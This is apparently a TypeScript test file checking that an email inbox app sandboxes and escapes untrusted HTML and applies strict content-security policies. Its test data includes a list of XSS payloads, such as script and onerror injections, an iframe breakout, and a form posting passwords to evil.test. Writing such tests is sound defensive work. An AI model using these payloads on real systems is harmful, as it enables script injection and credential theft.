import { describe, expect, it } from "vitest";
import { newInboxWorld } from "./inbox-world.ts";

const hostile = {
  script: "<script>top.pwned = 1</script>",
  "event handler": '<img src=x onerror="top.pwned = 1">',
  "svg onload": "<svg onload=top.pwned=1><script>top.pwned=1</script></svg>",
  "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  "base href": '<base href="https://evil.test/"><a href="/inbox">home</a>',
  form: '<form action="https://evil.test/" method="post"><input name="password"><button>Go</button></form>',
  "javascript link": '<a href="javascript:top.pwned=1">click</a><a href="&#106;avascript:alert(1)">click</a>',
  "style url":
    '<style>body{background:url(https://evil.test/track)}@import "https://evil.test/x.css";</style>',
  "frame in a frame":
    '<iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="https://evil.test">',
  "way out of the frame": '"></iframe></section><script>top.pwned = 1</script>',
};

const hostileText = `"><script>top.pwned=1</script><img src=x onerror='top.pwned=1'>&amp;`;

describe("an untrusted email in the inbox", () => {
  it.each(Object.entries(hostile))("shows HTML with %s only in a sandbox", async (_kind, html) => {
    const { sendHtml, get, text } = await newInboxWorld();
    const id = await sendHtml(html);

    const view = await get(`/inbox/${id}/html`);
    const policy = policyOf(view);
    expect(policy.has("sandbox")).toBe(true);
    expect(policy.get("sandbox")).toBe("");
    expect(policy.get("default-src")).toBe("'none'");
    expect(policy.get("img-src")).toBe("data: cid:");
    expect(policy.get("style-src")).toBe("'unsafe-inline'");
    expect(policy.get("base-uri")).toBe("'none'");
    expect(policy.get("form-action")).toBe("'none'");
    expect(policy.get("frame-ancestors")).toBe("'self'");
    expect(policy.has("script-src")).toBe(false);
    expect(view.headers.get("x-content-type-options")).toBe("nosniff");
    expect(view.headers.get("referrer-policy")).toBe("no-referrer");

    for (const tab of ["html", "text", "links", "headers", "source", "attachments"]) {
      const page = await text(`/inbox/${id}?view=${tab}`);
      expect(foreignTags(page)).toEqual([]);
      expect(page).not.toMatch(/href="(?!https?:|\/inbox|#content|data:,")/);
    }
    expect(await text(`/inbox/${id}`)).toContain(`<iframe sandbox="" src="/inbox/${id}/html"`);
  });

  it("is escaped wherever a page shows its sender, subject, text, attachments or tags", async () => {
    const { send, text } = await newInboxWorld();
    const word = `=?UTF-8?B?${Buffer.from(hostileText).toString("base64")}?=`;
    const id = await send(
      [
        `From: ${word} <a@example.com>`,
        "To: ada@reader.test",
        `Subject: ${word}`,
        `X-Odd: ${hostileText}`,
        "Content-Type: multipart/mixed; boundary=b",
      ],
      [
        "--b",
        "",
        hostileText,
        "--b",
        `Content-Type: text/x-${"<b>"}`,
        `Content-Disposition: attachment; filename="${word}"`,
        "",
        "x",
        "--b--",
      ].join("\r\n"),
    );
    const query = encodeURIComponent(hostileText);
    const paths = [
      "/inbox",
      `/inbox?q=${query}&region=${query}&before=${query}`,
      `/inbox/${id}?view=${query}`,
    ];
    const tabs = ["html", "text", "links", "headers", "source", "attachments"].map(
      (tab) => `/inbox/${id}?view=${tab}`,
    );
    for (const path of [...paths, ...tabs]) expect(foreignTags(await text(path))).toEqual([]);
    expect(await text("/inbox")).toContain("&lt;script&gt;top.pwned=1&lt;/script&gt;");
  });

  it("is shown as source when it is nested too deeply to be parsed", async () => {
    const { send, get } = await newInboxWorld();
    const levels = Array.from({ length: 300 }, (_, depth) => depth);
    const parts = levels.map(
      (depth) => `--b${depth}\r\nContent-Type: multipart/mixed; boundary=b${depth + 1}\r\n`,
    );
    const headers = [
      "From: a@example.com",
      "To: ada@reader.test",
      "Content-Type: multipart/mixed; boundary=b0",
    ];
    const id = await send(headers, parts.join("\r\n"));
    expect((await get("/inbox")).status).toBe(200);
    const page = await get(`/inbox/${id}?view=source`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain("boundary=b300");
  });

  it("is shown on pages that forbid inline scripts, other origins and framing", async () => {
    const { sendHtml, get } = await newInboxWorld();
    const id = await sendHtml("<p>hi</p>");
    for (const path of ["/inbox", `/inbox/${id}`, `/inbox/${id}?view=source`]) {
      const policy = policyOf(await get(path));
      expect(policy.get("default-src")).toBe("'none'");
      expect(policy.get("script-src")).toBe("'self'");
      expect(policy.get("style-src")).toBe("'self'");
      expect(policy.get("frame-ancestors")).toBe("'none'");
      expect(policy.get("frame-src")).toBe("'self'");
    }
    for (const path of [`/inbox/${id}/source`, "/inbox/api/emails", "/inbox/none"]) {
      const answer = await get(path);
      expect(policyOf(answer).get("default-src")).toBe("'none'");
      expect(policyOf(answer).get("frame-ancestors")).toBe("'none'");
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });
});

/** Tags and attributes that no page of the inbox writes itself. */
function foreignTags(page: string): readonly string[] {
  const tags = page.match(/<[a-z][^>]*>/gi) ?? [];
  return tags.filter(
    (tag) =>
      /^<(img|svg|form action="(?!\/inbox")|base|object|embed|style|b>|link rel="(?!icon|stylesheet))/i.test(
        tag,
      ) ||
      /\son[a-z]+\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""')) ||
      /\ssrcdoc|\sstyle\s*=|http-equiv/i.test(tag.replaceAll(/"[^"]*"/g, '""')) ||
      (/^<script/i.test(tag) && tag !== '<script src="/inbox/app.js" defer>') ||
      (/^<iframe/i.test(tag) && !tag.startsWith('<iframe sandbox="" src="/inbox/')),
  );
}

function policyOf(answer: Response): ReadonlyMap<string, string> {
  const policy = answer.headers.get("content-security-policy") ?? "";
  return new Map(
    policy.split(";").map((directive) => {
      const [name = "", ...values] = directive.trim().split(" ");
      return [name, values.join(" ")];
    }),
  );
}
